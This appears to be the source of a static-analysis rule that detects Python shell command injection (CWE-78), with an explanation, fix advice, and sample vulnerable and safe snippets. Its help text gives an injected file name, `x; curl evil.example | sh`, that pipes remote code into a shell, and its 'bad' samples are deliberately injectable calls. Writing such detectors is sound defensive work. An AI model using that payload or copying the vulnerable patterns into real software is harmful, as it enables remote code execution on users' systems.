"""A shell command that is built from a string."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from vetline_analyzers.core.finding import Confidence, Severity
from vetline_analyzers.syntax.rule import Hit, PatternRule, Report
from vetline_analyzers.syntax.scope import callee

if TYPE_CHECKING:
    from tree_sitter import Node

_SHELLS = re.compile(r"(?:/\w+)*/?(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?")
_ALWAYS = (
    *("os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput"),
    *("commands.getoutput", "asyncio.create_subprocess_shell", "popen2.popen2"),
)
_ON_REQUEST = tuple(
    f"subprocess.{n}" for n in ("run", "call", "check_call", "check_output", "Popen")
)


def _check(hit: Hit) -> Report | None:
    command = hit.either(0, "args") or hit.keyword("cmd")
    if command is None:
        return None
    if not hit.name:  # a method: paramiko's exec_command
        return _judged(hit, command) if hit.built(command) else None
    if hit.name in _ON_REQUEST:
        shell = hit.keyword("shell")
        if shell is None or hit.text(shell) in {"False", "0", "None"}:
            inner = _given_to_shell(hit, command)
            return _judged(hit, inner) if inner is not None and hit.built(inner) else None
    return _judged(hit, command)


def _judged(hit: Hit, command: Node) -> Report | None:
    if hit.constant(command):
        return None
    built = hit.built(command)
    if built is not None:
        holes = [p for p in built if p is not None and not isinstance(p, str)]
        if all(_quoted(hit, hole) for hole in holes):
            return None
    if built is not None or hit.from_outside(command):
        return Report(
            "A shell command is built from a string: a value in it becomes a command. "
            "Pass a list of arguments without a shell.",
            command,
        )
    return Report(
        "A shell runs a command that is not written here: pass a list of arguments without a shell.",
        command,
        confidence=Confidence.MEDIUM,
    )


def _quoted(hit: Hit, node: Node) -> bool:
    function = callee(node) if node.type == "call" else None
    return hit.resolve(function) in {"shlex.quote", "pipes.quote", "shlex.join"}


def _given_to_shell(hit: Hit, command: Node) -> Node | None:
    """The text after `-c` in `["sh", "-c", text]`."""
    if command.type not in {"list", "tuple"}:
        return None
    items = [node for node in command.named_children if node.type != "comment"]
    for shell, flag, text in zip(items, items[1:], items[2:], strict=False):
        if hit.string(flag) in {"-c", "/c"} and _SHELLS.fullmatch(hit.string(shell) or ""):
            return text
    return None


RULE = PatternRule(
    id="python/command-from-string",
    title="Shell command built from a string",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=(78,),
    page="""
A text with values in it is handed to a shell. The shell reads `;`, `|`, `$(…)` and line ends in those
values as its own: a file called `x; curl evil.example | sh` runs a program of the attacker.

Where a whole command comes from elsewhere and nothing shows from where, the finding is shown to
`--persona pedantic`.
""",
    advice='Pass a list and no shell: `subprocess.run(["ping", "-c", "1", host])`. If a shell is '
    "needed, put each value through `shlex.quote`.",
    bad=(
        """\
import os

def ping(host):
    os.system(f"ping -c 1 {host}")
""",
        """\
import subprocess

def ping(host):
    subprocess.run("ping -c 1 " + host, shell=True, check=True)
""",
        """\
from subprocess import check_output as co

def ping(host):
    cmd = "ping %s" % host
    return co(cmd, shell=True)
""",
        """\
import subprocess

def ping(h):
    subprocess.call(["sh", "-c", f"ping {h}"])
""",
        """\
import subprocess as sp

sp.Popen(input('command: '), shell=True)
""",
        """\
def run(ssh, name):
    ssh.exec_command(f"cat {name}")
""",
    ),
    good=(
        """\
import subprocess

def ping(host):
    subprocess.run(["ping", "-c", "1", host], check=True)
""",
        """\
import os

def clear():
    os.system("clear")
""",
        """\
import shlex, subprocess

def ping(host):
    subprocess.run(f"ping -c 1 {shlex.quote(host)} | tail -1", shell=True, check=True)
""",
        """\
import subprocess

def ping(h):
    subprocess.run(f"ping {h}".split())
""",
    ),
    same_as=tuple(f"bandit/B{n}" for n in (601, 602, 604, 605, 609)),
    url="https://docs.python.org/3/library/subprocess.html#security-considerations",
    names=(*_ALWAYS, *_ON_REQUEST),
    methods=("exec_command",),
    check=_check,
)
